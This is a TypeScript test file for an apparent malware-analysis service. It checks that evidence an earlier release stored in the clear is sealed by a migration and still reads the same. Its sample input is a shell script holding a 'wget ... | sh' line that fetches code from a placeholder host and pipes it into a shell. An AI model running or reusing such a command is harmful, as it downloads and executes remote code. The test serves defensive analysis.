import { afterAll, beforeAll, expect, test } from 'vitest';
import { system } from '../platform/caller.ts';
import { sealOldEvidence } from '../subgraphs/verdicts/old-evidence.ts';
import { allTold, dumpOf, hashOf, listen, send, startAssay, type Assay } from './assay.ts';
import { lookingUp } from './dump/seeds.ts';

let assay: Assay;
beforeAll(async () => {
  assay = await startAssay();
  await assay.fakeRunner(lookingUp);
});
afterAll(async () => await assay?.stop());

test('what an earlier release kept in the clear of what was seen is sealed, and reads as before', async () => {
  const [device] = (await assay.customer()).devices;
  const { platform } = assay.platform.subgraphs.find(({ name }) => name === 'verdicts')!;
  const em = platform.database.for(system);
  const bytes = Buffer.from('#!/bin/sh\n# looks up db7.old.example\nwget -q http://intranet.old.example/x | sh\n');
  const ear = listen(assay.url, device!);
  await ear.listening();
  await send(assay, device!, bytes, { localScore: null });
  await ear.final(hashOf(bytes));
  ear.stop();
  await assay.analysed(bytes);
  await allTold(assay);
  const known = async () => (await assay.ask<{ verdict: { analysis: { id: string; signals: object[] } } }>(device!, `query ($sha256: Sha256!) { verdict(sha256: $sha256) { summary decisiveSignals { title evidence }
    analysis { id signals { rule title evidence } report { indicators { kind value } events(first: 50) { nodes { kind fields } } export(format: JSON) { content } } } } }`, { sha256: hashOf(bytes) })).data.verdict;
  const before = await known();
  expect(JSON.stringify(before)).toContain('db7.old.example');
  expect(before.analysis.signals.length).toBeGreaterThan(0);
  const { id } = before.analysis;
  // As rows of an earlier release are.
  const titles = JSON.stringify(before.analysis.signals);
  await em.execute(`update signal s set sealed = null, title = t.title, evidence = t.evidence from jsonb_to_recordset(?::jsonb) as t(rule text, title text, evidence text[]) where s.analysis_id = ? and t.rule = s.rule`, [titles, id], 'run');
  await em.execute("update event set fields = jsonb_build_object('QueryName', 'db7.old.example'), sealed = null where analysis_id = ? and kind = 'DNS'", [id], 'run');
  const clear = await known();
  expect(await dumpOf(assay, 'verdicts')).toContain('db7.old.example');
  expect(JSON.stringify(clear.analysis.signals)).toBe(titles);
  while (await sealOldEvidence(platform));
  expect(await known()).toEqual(clear);
  expect(await dumpOf(assay, 'verdicts')).not.toContain('old.example');
  expect(await em.execute('select 1 from signal where sealed is null union all select 1 from event where fields is not null')).toEqual([]);
});
